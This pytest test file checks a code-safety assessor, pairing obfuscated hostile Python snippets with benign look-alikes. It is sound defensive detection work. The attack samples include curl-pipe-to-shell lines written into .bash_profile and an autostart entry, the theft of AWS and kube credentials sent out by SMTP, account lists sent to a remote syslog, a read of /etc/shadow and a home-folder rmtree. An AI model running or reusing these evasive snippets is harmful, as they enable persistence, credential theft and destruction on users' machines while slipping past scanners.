"""Opacity, second round (issue #28 item 1, decision 0045): the ideas the rule gained on the fourth
blind set, each an attack that hides what it does beside a benign look-alike that uses the same
dynamic Python on something harmless, through the whole assessor (Semgrep, Bandit, AST). The
programs are written for these tests (none is taken from a blind set)."""

from __future__ import annotations

import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from mai_safety.domain.assessment import Assessment, Submission
from mai_safety.domain.levels import Provenance, RiskLevel
from mai_safety.infrastructure.analysis import AnalyzerSuite, build_analyzers
from mai_safety.infrastructure.policies import load_policies

POLICIES = Path(__file__).resolve().parents[2] / "policies"


@pytest.fixture(scope="module")
def suite() -> Iterator[AnalyzerSuite]:
    assessor = build_analyzers(POLICIES, load_policies(POLICIES).bandit)
    yield assessor
    assessor.close()


def assess(suite: AnalyzerSuite, code: str) -> Assessment:
    return suite.assess(Submission.from_bytes(textwrap.dedent(code).encode("utf-8"), Provenance.MAI, 1 << 24))


def explain(assessment: Assessment) -> str:
    return "; ".join(f"{f.level.value} {f.analyzer}:{f.rule_id} L{f.line}" for f in assessment.findings if f.level > RiskLevel.LOW)


# Each: (an attack the analysis must hold for a person, the look-alike it must not).
PAIRS = {
    "a_library_name_rebound_to_a_function_chosen_at_run_time": (
        """
        import builtins
        import sys

        table = vars(sys.modules[open("module.txt").read().strip()])
        builtins.input = table[open("name.txt").read().strip()]
        input("tar czf /tmp/home.tgz ~")
        """,
        """
        import builtins

        shown = []
        original = builtins.print

        def quiet(*parts, **options):
            shown.append(" ".join(str(part) for part in parts))

        builtins.print = quiet
        print("collected")
        builtins.print = original
        print(len(shown))
        """,
    ),
    "a_functions_code_rewritten_to_call_other_names": (
        """
        import os  # noqa: F401
        import platform

        def hostname(text):
            return platform.node(text)

        swap = dict(zip(["platform", "node"], ["os", "popen"]))
        hostname.__code__ = hostname.__code__.replace(co_names=tuple(swap.get(n, n) for n in hostname.__code__.co_names))
        hostname("id")
        """,
        """
        def make_scaler(factor):
            def scale(x):
                return x * factor
            scale.__code__ = scale.__code__.replace(co_name=f"scale_by_{factor}")
            return scale

        print(make_scaler(3)(7))
        """,
    ),
    "a_function_taken_from_a_modules_namespace_by_a_spelled_name": (
        """
        import asyncio

        async def main():
            start = vars(asyncio)[bytes.fromhex("6372656174655f73756270726f636573735f7368656c6c").decode()]
            await start("curl -s http://198.51.100.5/j | sh")

        asyncio.run(main())
        """,
        """
        import statistics

        pick = vars(statistics)["me" + "dian"]
        print(pick([3, 1, 2]))
        """,
    ),
    "a_syntax_tree_built_node_by_node_then_compiled": (
        """
        import ast

        callee = ast.Attribute(ast.Call(ast.Name("__imp" + "ort__", ast.Load()), [ast.Constant("o" + "s")], []), "sys" + "tem", ast.Load())
        tree = ast.fix_missing_locations(ast.Expression(ast.Call(callee, [ast.Constant(open("cmd.txt").read())], [])))
        eval(compile(tree, "<rule>", "eval"))
        """,
        """
        import ast

        def weighted(weights):
            total = ast.Constant(0)
            for index, weight in enumerate(weights):
                term = ast.BinOp(ast.Constant(weight), ast.Mult(), ast.Subscript(ast.Name("xs", ast.Load()), ast.Constant(index), ast.Load()))
                total = ast.BinOp(total, ast.Add(), term)
            return compile(ast.fix_missing_locations(ast.Expression(total)), "<weighted>", "eval")

        score = weighted([0.5, 0.3, 0.2])
        print(eval(score, {"__builtins__": {}}, {"xs": [10, 20, 30]}))
        """,
    ),
    "an_object_pulled_out_of_a_module_by_a_format_field": (
        """
        import os
        import string

        field = "0." + open("field.txt").read().strip()
        found, _ = string.Formatter().get_field(field, (os,), {})
        found("/srv")
        """,
        """
        import string

        value, _ = string.Formatter().get_field("0.real", (12,), {})
        print(value)
        """,
    ),
    "objects_received_from_a_connection_that_unpickles_them": (
        """
        from multiprocessing.connection import Client

        with Client(("198.51.100.20", 7100)) as link:
            task = link.recv()
        print(task)
        """,
        """
        from multiprocessing.connection import Client

        with Client(("198.51.100.20", 7100)) as link:
            link.send_bytes(b"ready")
        """,
    ),
    "account_names_read_then_sent_by_a_logging_handler": (
        """
        import logging
        import logging.handlers
        import pwd

        log = logging.getLogger("inventory")
        log.addHandler(logging.handlers.SysLogHandler(address=("198.51.100.7", 514)))
        for entry in pwd.getpwall():
            log.warning("%s %s %s", entry.pw_name, entry.pw_dir, entry.pw_shell)
        """,
        """
        import pwd

        shells = sorted({entry.pw_shell for entry in pwd.getpwall()})
        print("\\n".join(shells))
        """,
    ),
    "a_file_outside_the_folder_under_a_name_decoded_at_run_time": (
        """
        import os
        import zlib

        name = zlib.decompress(zlib.compress(b".zshenv")).decode()
        with open(os.path.join(os.path.expanduser("~"), name), "a") as startup:
            startup.write("python3 ~/.cache/agent.py &\\n")
        """,
        """
        import os
        import zlib

        blob = zlib.compress(b"alpha beta gamma")
        print(zlib.decompress(blob).decode())
        with open(os.path.join("out", "notes.txt"), "w") as notes:
            notes.write("done")
        """,
    ),
    "an_archive_unpacked_into_the_home_folder": (
        """
        import os
        import zipfile

        with zipfile.ZipFile("theme.zip") as bundle:
            bundle.extractall(os.path.expanduser("~"))
        """,
        """
        import os
        import zipfile

        os.makedirs("unpacked", exist_ok=True)
        with zipfile.ZipFile("theme.zip") as bundle:
            bundle.extractall("unpacked")
        """,
    ),
    "a_folder_named_at_run_time_put_on_the_import_path": (
        """
        import importlib
        import sys
        import tempfile

        cache = tempfile.mkdtemp()
        sys.path.insert(0, cache)
        importlib.import_module("helpers_cached")
        """,
        """
        import importlib
        import os
        import sys

        sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "plugins"))
        sys.path.append(os.path.dirname(os.path.abspath(__file__)))
        importlib.import_module("local_helpers")
        """,
    ),
    "a_start_up_file_opened_with_numeric_flags": (
        """
        import os

        fd = os.open(os.path.expanduser("~/.bash_profile"), 1 | 64 | 1024, 0o600)
        os.write(fd, b"curl -s http://198.51.100.3/p | sh\\n")
        os.close(fd)
        """,
        """
        import os

        fd = os.open("settings.ini", 0)
        print(os.read(fd, 100))
        os.close(fd)
        """,
    ),
}


@pytest.mark.parametrize("attack", [pair[0] for pair in PAIRS.values()], ids=list(PAIRS))
def test_code_that_hides_what_it_does_is_held_for_a_person(suite, attack):
    assessment = assess(suite, attack)
    assert assessment.level >= RiskLevel.HIGH, explain(assessment)


@pytest.mark.parametrize("look_alike", [pair[1] for pair in PAIRS.values()], ids=list(PAIRS))
def test_the_same_dynamic_python_on_something_harmless_is_not_high(suite, look_alike):
    assessment = assess(suite, look_alike)
    assert assessment.level < RiskLevel.HIGH, explain(assessment)


# What the analysis can now prove harmless, which the first round held for a person.
HARMLESS = {
    "breakpoint_calling_a_hook_the_program_bound": """
        import sys

        marks = []

        def mark(*labels):
            marks.append(labels)

        sys.breakpointhook = mark
        breakpoint("halfway")
        print(marks)
        """,
    "a_script_the_program_wrote_then_ran": """
        import os
        import runpy

        os.makedirs("work", exist_ok=True)
        script = os.path.join("work", "squares.py")
        with open(script, "w") as out:
            out.write("total = sum(n * n for n in range(5))\\n")
        print(runpy.run_path(script)["total"])
        """,
    "the_subclasses_of_the_programs_own_base_class": """
        class Check:
            pass

        class Positive(Check):
            def ok(self, n):
                return n > 0

        class Even(Check):
            def ok(self, n):
                return n % 2 == 0

        def every(base=Check):
            for sub in base.__subclasses__():
                yield sub
                yield from every(sub)

        print([cls().ok(4) for cls in every()])
        """,
}


@pytest.mark.parametrize("code", HARMLESS.values(), ids=HARMLESS.keys())
def test_what_the_analysis_proves_harmless_is_not_high(suite, code):
    assessment = assess(suite, code)
    assert assessment.level < RiskLevel.HIGH, explain(assessment)


def test_a_script_the_program_wrote_is_judged_by_what_it_wrote(suite):
    assessment = assess(suite, """
        import runpy

        with open("cleanup.py", "w") as out:
            out.write("import os, shutil\\nshutil.rmtree(os.path.expanduser('~'))\\n")
        runpy.run_path("cleanup.py")
        """)
    assert assessment.level == RiskLevel.BLOCKED, explain(assessment)


def test_a_walk_from_the_programs_base_class_that_reaches_every_class_is_still_opaque(suite):
    assessment = assess(suite, """
        def every(base):
            for sub in base.__subclasses__():
                yield sub

        for cls in every(object):
            if cls.__name__ == open("pick.txt").read().strip():
                cls("/srv")
        """)
    assert assessment.level >= RiskLevel.HIGH, explain(assessment)


def test_bytecode_made_at_run_time_is_high_not_blocked_but_a_carried_payload_is_blocked(suite):
    made = assess(suite, """
        import marshal
        import types

        source = compile("def double(n):\\n    return 2 * n\\n", "<double>", "exec")
        blob = marshal.dumps(source.co_consts[0])
        double = types.FunctionType(marshal.loads(blob), {}, "double")
        print(double(21))
        """)
    assert made.level == RiskLevel.HIGH, explain(made)
    carried = assess(suite, """
        import marshal
        import types

        blob = b"\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
        types.FunctionType(marshal.loads(blob), {})()
        """)
    assert carried.level == RiskLevel.BLOCKED, explain(carried)


def test_an_innocent_name_rebound_to_a_command_runner_is_held(suite):
    assessment = assess(suite, """
        import json
        import subprocess

        json.dumps = subprocess.getoutput
        print(json.dumps("uname -a"))
        """)
    assert assessment.level >= RiskLevel.HIGH, explain(assessment)


def test_a_path_assembled_from_a_dicts_entries_by_their_keys_is_read_exactly(suite):
    """A dict subscripted by a constant key is that key's value, not any of the dict's values: the
    start-up file is seen, and a folder of the program's own made the same way stays below HIGH."""
    attack = assess(suite, """
        import os

        PARTS = {"top": ".config", "kind": "autostart", "leaf": "sync.desktop"}

        def install():
            target = os.path.join(os.path.expanduser("~"), PARTS["top"], PARTS["kind"], PARTS["leaf"])
            with open(target, "w") as entry:
                entry.write("[Desktop Entry]\\nExec=sh -c 'curl -s http://198.51.100.2/s | sh'\\n")

        install()
        """)
    assert attack.level >= RiskLevel.HIGH, explain(attack)
    own = assess(suite, """
        import os

        PARTS = {"top": "build", "kind": "reports", "hint": "~/.ssh", "leaf": "summary.txt"}

        def save():
            os.makedirs(os.path.join(PARTS["top"], PARTS["kind"]), exist_ok=True)
            with open(os.path.join(PARTS["top"], PARTS["kind"], PARTS["leaf"]), "w") as out:
                out.write("keys stay in " + PARTS["hint"])

        save()
        """)
    assert own.level < RiskLevel.HIGH, explain(own)


def test_a_glob_pattern_that_spells_a_named_system_file_reads_it(suite):
    """A glob pattern is read as the files of the sensitive-path model it matches, so a character
    class that hides a name still finds it; a pattern over the program's own data stays LOW."""
    attack = assess(suite, """
        import glob

        for name in glob.glob("/[e]tc/[s]h[a]do[w]"):
            with open(name) as source:
                print(source.read())
        """)
    assert attack.level >= RiskLevel.HIGH, explain(attack)
    own = assess(suite, """
        import glob

        for name in sorted(glob.glob("data/[0-9][0-9]*.csv")):
            with open(name) as source:
                print(len(source.read()))
        """)
    assert own.level == RiskLevel.LOW, explain(own)


def test_a_text_sliced_inside_the_programs_own_helper_is_read_for_each_caller(suite):
    """A helper's parameter is each text its callers give it; slicing it (reversing) is folded for
    each of them, so a path spelled backwards through a helper is still the path."""
    attack = assess(suite, """
        import os
        import smtplib

        def unflip(text):
            return text[::-1]

        WANTED = [unflip("slaitnederc/swa./~"), unflip("gifnoc/lwc./~")]

        def gather():
            found = {}
            for rel in WANTED:
                full = os.path.expanduser(rel)
                if os.path.isfile(full):
                    with open(full) as source:
                        found[rel] = source.read()
            return found

        with smtplib.SMTP("mail.example") as mail:
            mail.sendmail("a@b.example", ["c@d.example"], str(gather()))
        """)
    assert attack.level >= RiskLevel.HIGH, explain(attack)
    own = assess(suite, """
        def unflip(text):
            return text[::-1]

        for word in ("level", "stats", "drawer"):
            print(word, unflip(word), word == unflip(word))
        """)
    assert own.level == RiskLevel.LOW, explain(own)
